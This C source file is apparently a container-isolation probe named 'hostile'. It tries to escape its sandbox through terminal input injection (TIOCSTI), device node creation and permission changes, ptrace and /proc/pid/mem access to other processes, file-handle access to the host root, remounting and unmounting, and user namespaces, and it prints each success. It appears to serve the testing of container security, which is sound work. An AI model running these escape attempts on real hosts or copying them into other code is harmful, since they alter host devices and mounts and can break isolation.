/*
 * hostile: the process of a container that wants to reach the host.
 *
 *   hostile MASKED... : READONLY...
 *
 * Prints one line for each thing that it got: an action, a tab, and the object.  It changes device
 * nodes outside its own /dev for good, so that the host's owner sees it; everything else it tries
 * with the value that is there, or opens without writing.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define DEPTH 12
#define FILES 60000
#define MOUNTS 256

static const char *who = "";
static int files;

static void got(const char *action, const char *object)
{
	printf("%s%s\t%s\n", who, action, object);
	fflush(stdout);
}

static void got_number(const char *action, long number)
{
	char text[32];

	snprintf(text, sizeof(text), "%ld", number);
	got(action, text);
}

static int is_device(const struct stat *about)
{
	return S_ISCHR(about->st_mode) || S_ISBLK(about->st_mode);
}

/* A node on the container's own /dev, or its own terminal, is its to change. */
static int is_own(const struct stat *about)
{
	struct stat dev;

	return stat("/dev", &dev) == 0 && dev.st_dev == about->st_dev;
}

/* --- metadata: through a path, which may be one in /proc/self/fd ------------------- */

static void change_node(const char *path, const char *name)
{
	const struct timespec past[2] = {{1, 0}, {1, 0}};

	if (chmod(path, 0600) == 0)
		got("chmod", name);
	if (chown(path, 33, 34) == 0)
		got("chown", name);
	if (utimensat(AT_FDCWD, path, past, 0) == 0)
		got("utimes", name);
	if (setxattr(path, "trusted.hostile", "x", 1, 0) == 0)
		got("setxattr", name);
	if (setxattr(path, "security.capability", "x", 1, 0) == 0)
		got("setxattr", name);
}

static void use_ioctls(int descriptor, const char *name)
{
	char letter = ' ';
	int flags;

	if (isatty(descriptor) && ioctl(descriptor, TIOCSTI, &letter) == 0)
		got("ioctl TIOCSTI", name);
	if (ioctl(descriptor, _IOR('f', 1, long), &flags) == 0 &&
	    ioctl(descriptor, _IOW('f', 2, long), &flags) == 0)
		got("ioctl SETFLAGS", name);
}

/* --- descriptors ----------------------------------------------------------------- */

static void try_descriptors(void)
{
	const struct timespec past[2] = {{1, 0}, {1, 0}};
	struct stat about;
	char path[64];
	char target[512];
	int descriptor;

	for (descriptor = 0; descriptor < 1024; descriptor++) {
		ssize_t size;

		if (fstat(descriptor, &about) != 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", descriptor);
		size = readlink(path, target, sizeof(target) - 1);
		target[size < 0 ? 0 : size] = 0;
		if (descriptor > 2)
			got("descriptor", target);
		if (S_ISDIR(about.st_mode) && fchdir(descriptor) == 0) {
			got("directory", target);
			continue;
		}
		if (!is_device(&about) || is_own(&about) || isatty(descriptor))
			continue;
		if (fchmod(descriptor, 0600) == 0)
			got("fchmod", target);
		if (fchown(descriptor, 33, 34) == 0)
			got("fchown", target);
		if (futimens(descriptor, past) == 0)
			got("futimens", target);
		change_node(path, target);
		use_ioctls(descriptor, target);
	}
}

/* --- masks and read-only paths ------------------------------------------------------ */

static void try_directory(const char *path, const char *action)
{
	char made[600];
	struct dirent *entry;
	DIR *stream = opendir(path);

	if (!stream)
		return;
	while ((entry = readdir(stream)))
		if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, "..")) {
			got(action, path);
			break;
		}
	closedir(stream);
	snprintf(made, sizeof(made), "%s/hostile", path);
	if (mkdir(made, 0700) == 0)
		got("mkdir", made);
}

static void try_mask(const char *path)
{
	struct stat about;
	char byte;
	int opened;

	if (lstat(path, &about) != 0)
		return;
	if (S_ISDIR(about.st_mode)) {
		try_directory(path, "list");
		if (chmod(path, about.st_mode & 07777) == 0)
			got("chmod", path);
		return;
	}
	opened = open(path, O_RDONLY | O_NONBLOCK);
	if (opened >= 0 && read(opened, &byte, 1) > 0)
		got("read", path);
	if (opened >= 0)
		close(opened);
	if (is_device(&about) && !is_own(&about))
		change_node(path, path);
}

static void try_readonly(const char *path)
{
	struct stat about;
	int opened;

	if (lstat(path, &about) != 0)
		return;
	if (chmod(path, about.st_mode & 07777) == 0)
		got("chmod", path);
	if (S_ISDIR(about.st_mode))
		return;
	opened = open(path, O_WRONLY | O_NONBLOCK);
	if (opened < 0)
		return;
	got("write", path);
	close(opened);
}

/* --- files of /proc and /sys ---------------------------------------------------------- */

static void write_back(const char *path)
{
	char value[4096];
	ssize_t size;
	int opened = open(path, O_RDWR | O_NONBLOCK | O_NOFOLLOW);

	if (opened < 0)
		return;
	size = pread(opened, value, sizeof(value), 0);
	got(size > 0 && pwrite(opened, value, size, 0) == size ? "set" : "open", path);
	close(opened);
}

/* A file that nobody may write to by its mode has nothing that takes what is written. */
static void try_file(const char *path)
{
	struct stat about;
	int opened;

	if (!strncmp(path, "/proc/sys/kernel/", 17) || !strncmp(path, "/proc/sys/fs/", 13)) {
		write_back(path);
		return;
	}
	opened = open(path, O_WRONLY | O_NONBLOCK | O_NOFOLLOW);
	if (opened < 0)
		return;
	if (fstat(opened, &about) == 0 && S_ISREG(about.st_mode) && (about.st_mode & 0222))
		got("write", path);
	close(opened);
}

static int is_process(const char *name)
{
	return strspn(name, "0123456789") == strlen(name) || !strcmp(name, "self") ||
	       !strcmp(name, "thread-self");
}

static void walk(const char *top, int depth)
{
	char path[1024];
	struct dirent *entry;
	DIR *stream = opendir(top);

	if (!stream)
		return;
	while ((entry = readdir(stream)) && files < FILES) {
		if (entry->d_name[0] == '.' || (depth == 0 && is_process(entry->d_name)))
			continue;
		snprintf(path, sizeof(path), "%.700s/%s", top, entry->d_name);
		files++;
		if (entry->d_type == DT_DIR && depth < DEPTH)
			walk(path, depth + 1);
		else if (entry->d_type == DT_REG)
			try_file(path);
	}
	closedir(stream);
}

/* --- mounts ----------------------------------------------------------------------- */

/* mount_points: the fifth field of each line of mountinfo; the strings are never freed. */
static int mount_points(char **points)
{
	char line[4096];
	int count = 0;
	FILE *file = fopen("/proc/self/mountinfo", "re");

	while (file && count < MOUNTS && fgets(line, sizeof(line), file)) {
		char point[2048];

		if (sscanf(line, "%*s %*s %*s %*s %2047s", point) == 1)
			points[count++] = strdup(point);
	}
	if (file)
		fclose(file);
	return count;
}

static void try_mount_point(const char *path)
{
	struct statvfs system;
	struct stat about;
	int opened;

	if (lstat(path, &about) == 0 && is_device(&about) && !is_own(&about))
		change_node(path, path);
	opened = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
	if (opened >= 0) {
		use_ioctls(opened, path);
		close(opened);
	}
	if (mount("none", path, NULL, MS_SHARED, NULL) == 0)
		got("share", path);
	/* Only what was read-only before is worth a word. */
	if (statvfs(path, &system) != 0 || !(system.f_flag & ST_RDONLY))
		return;
	if (mount("none", path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		got("remount", path);
	if (mount("none", path, NULL, MS_REMOUNT, NULL) == 0)
		got("reconfigure", path);
}

static void try_mounts(void)
{
	static char *points[MOUNTS];
	int count = mount_points(points);
	int index;

	for (index = 0; index < count; index++)
		try_mount_point(points[index]);
	mkdir("/tmp/mnt", 0700);
	if (mount("proc", "/tmp/mnt", "proc", 0, NULL) == 0)
		got("mount", "proc");
	if (mount("sysfs", "/tmp/mnt", "sysfs", 0, NULL) == 0)
		got("mount", "sysfs");
	if (mount("cgroup", "/tmp/mnt", "cgroup", 0, "devices") == 0)
		got("mount", "cgroup");
	if (mount("dev", "/tmp/mnt", "devtmpfs", 0, NULL) == 0)
		got("mount", "devtmpfs");
	if (mount("/proc/sys", "/tmp/mnt", NULL, MS_BIND, NULL) == 0)
		got("bind", "/proc/sys");
	for (index = count - 1; index > 0; index--)
		if (umount2(points[index], MNT_DETACH) == 0)
			got("umount", points[index]);
}

/* --- devices ------------------------------------------------------------------------ */

static const struct { mode_t kind; unsigned int major, minor; } devices[] = {
	{S_IFCHR, 1, 1},    {S_IFCHR, 1, 2},   {S_IFCHR, 1, 4},    {S_IFCHR, 1, 11},
	{S_IFCHR, 4, 0},    {S_IFCHR, 4, 64},  {S_IFCHR, 5, 1},    {S_IFCHR, 10, 229},
	{S_IFCHR, 10, 232}, {S_IFCHR, 10, 237}, {S_IFCHR, 10, 235}, {S_IFBLK, 7, 0},
	{S_IFBLK, 8, 0},    {S_IFBLK, 253, 0}, {S_IFBLK, 254, 0},  {S_IFBLK, 259, 0},
};

static void try_devices_in(const char *place)
{
	char path[128];
	char name[160];
	size_t index;

	for (index = 0; index < sizeof(devices) / sizeof(devices[0]); index++) {
		int block = devices[index].kind == S_IFBLK;
		int opened;

		snprintf(path, sizeof(path), "%s/hostile-%zu", place, index);
		if (mknod(path, devices[index].kind | 0600,
			  makedev(devices[index].major, devices[index].minor)) != 0)
			continue;
		opened = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
		snprintf(name, sizeof(name), "%s %c %u:%u", place, block ? 'b' : 'c',
			 devices[index].major, devices[index].minor);
		if (opened >= 0) {
			got("device", name);
			close(opened);
		}
		unlink(path);
	}
}

static void try_devices(void)
{
	static const char *const places[] = {"/", "/tmp", "/dev", "/dev/shm", "/run"};
	size_t index;

	for (index = 0; index < sizeof(places) / sizeof(places[0]); index++)
		try_devices_in(places[index]);
}

/* --- other processes ---------------------------------------------------------------- */

static unsigned long long capabilities(pid_t pid)
{
	char path[64];
	char line[256];
	unsigned long long set = 0;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	file = fopen(path, "re");
	while (file && fgets(line, sizeof(line), file))
		if (sscanf(line, "CapPrm: %llx", &set) == 1)
			break;
	if (file)
		fclose(file);
	return set;
}

/* Every process whose number we can guess; those of the container are its own. */
static void try_processes(void)
{
	unsigned long long own = capabilities(getpid());
	pid_t pid;

	for (pid = 1; pid < 400; pid++) {
		char path[64];
		int opened;

		if (pid == getpid() || kill(pid, 0) != 0)
			continue;
		if (capabilities(pid) & ~own)
			got_number("stronger", pid);
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		opened = open(path, O_RDWR);
		if (opened >= 0 && (capabilities(pid) & ~own))
			got_number("memory", pid);
		if (opened >= 0)
			close(opened);
		if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
			if (capabilities(pid) & ~own)
				got_number("ptrace", pid);
			ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
			waitpid(pid, NULL, __WALL);
			ptrace(PTRACE_DETACH, pid, NULL, NULL);
		}
	}
}

/* --- the host's file system, by handle; namespaces ------------------------------------ */

static void try_handles(void)
{
	struct { struct file_handle head; unsigned int inode, generation; } handle = {
		.head = {.handle_bytes = 8, .handle_type = 1}, .inode = 2,
	};
	int place = open("/", O_RDONLY | O_DIRECTORY);
	int opened = open_by_handle_at(place, &handle.head, O_RDONLY);

	if (opened >= 0)
		got("handle", "inode 2");
	close(opened);
	close(place);
}

static int in_child(int (*task)(void))
{
	int status = 1;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid == 0)
		_exit(task());
	waitpid(pid, &status, 0);
	return status;
}

static int unshare_mounts(void) { return unshare(CLONE_NEWNS) != 0; }
static int unshare_network(void) { return unshare(CLONE_NEWNET) != 0; }
static int unshare_cgroup(void) { return unshare(CLONE_NEWCGROUP) != 0; }

static void try_namespaces(void)
{
	if (in_child(unshare_mounts) == 0)
		got("unshare", "mount");
	if (in_child(unshare_network) == 0)
		got("unshare", "network");
	if (in_child(unshare_cgroup) == 0)
		got("unshare", "cgroup");
}

/* Without CAP_SETFCAP uid 0 cannot be mapped; capabilities are there all the same. */
static void put(const char *path, const char *text)
{
	int opened = open(path, O_WRONLY);

	if (opened >= 0 && write(opened, text, strlen(text)) < 0)
		errno = 0;
	close(opened);
}

static char **arguments;

static void try_all(void)
{
	void (*attempt)(const char *) = try_mask;
	char **word;

	try_descriptors();
	try_devices();
	try_handles();
	try_namespaces();
	for (word = arguments; *word; word++) {
		if (!strcmp(*word, ":"))
			attempt = try_readonly;
		else
			attempt(*word);
	}
	walk("/proc", 0);
	walk("/sys", 0);
	try_processes();
	try_mounts(); /* last: it takes away what it can */
}

static int once_more(void)
{
	who = "nested ";
	files = 0;
	try_all();
	return 0;
}

/* With all capabilities in namespaces that the kernel gives everybody, if no filter forbids it. */
static int in_user_namespace(void)
{
	char map[64];
	uid_t uid = geteuid();
	gid_t gid = getegid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) != 0)
		return 0;
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	put("/proc/self/gid_map", map);
	in_child(once_more);
	return 0;
}

int main(int count, char **words)
{
	(void)count;
	arguments = words + 1;
	alarm(60);
	try_all();
	in_child(in_user_namespace);
	got("done", "");
	return 0;
}
